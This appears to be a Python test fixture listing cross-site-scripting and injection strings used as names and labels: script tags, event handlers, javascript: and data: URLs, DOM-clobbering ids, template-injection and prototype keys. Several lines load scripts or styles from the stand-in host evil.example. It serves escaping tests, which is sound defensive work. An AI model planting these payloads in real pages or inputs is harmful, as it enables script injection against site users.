"""Names and labels that would do something where text is taken for anything but text.  Each fits into a name."""

from __future__ import annotations

SCRIPTS = (
    "<script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "<script src=//evil.example/x></script>",
    "<scr<script>ipt>pwned=1</script>",
    "<svg><script>pwned=1</script></svg>",
    "</text><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "]]><script>pwned=1</script>",
)
HANDLERS = (
    "<img src=x onerror=pwned=1>",
    '<img src="x" onerror="pwned=1">',
    "<img/src/onerror=pwned=1>",
    '"><img src=x onerror=pwned=1>',
    "'><img src=x onerror=pwned=1>",
    "`><img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg/onload=pwned=1>",
    '"><svg onload=pwned=1>',
    "<body onload=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<video><source onerror=pwned=1>",
    "<b onmouseover=pwned=1>Ann</b>",
    "<style onload=pwned=1></style>",
    "' onmouseover=pwned=1 x='",
    '" onfocus=pwned=1 autofocus x="',
    '" style="animation:x" onanimationend=1',
)
ADDRESSES = (
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=2",
    "java&#9;script:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "vbscript:pwned=1",
    "<a href=javascript:pwned=1>x</a>",
    "<a xlink:href='javascript:pwned=1'>x</a>",
    "<iframe src=javascript:pwned=1>",
    "<iframe srcdoc='<script>pwned=1'>",
    "<object data=javascript:pwned=1>",
    "<embed src=//evil.example/x.swf>",
    "<form action=javascript:pwned=1><input>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example",
    "<meta http-equiv=refresh content=0;x>",
    "<use href=data:image/svg+xml,x#x>",
    "url(//evil.example/x.png)",
    "<style>*{background:url(//evil.example)}",
    "@import '//evil.example/x.css';",
    "#f00;background:url(//evil.example/x)",
)
NAMES_OF_THINGS = (
    "<b id=scene>x</b>",
    "<b id=jupyterapp>x</b>",
    "<form name=body>x</form>",
    "<img name=getElementById>",
    "id=x name=y data-z=1",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
)
TEMPLATES = (
    "${pwned=1}{{pwned=1}}",
    "{{constructor.constructor('pwned=1')()}}",
    "{name} {0} {seat.__class__} %s %(name)s",
    "$& $1 $` $' \\1 \\x3cscript\\x3e",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1",
    "<!--<b>",
    "Ann\u0000\u0007<i>",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *NAMES_OF_THINGS, *TEMPLATES)
LABELS = (*PAYLOADS, "\u202e<b>nnA</b>\u2066")
"""A label may hold what turns the direction of writing; a name may not."""
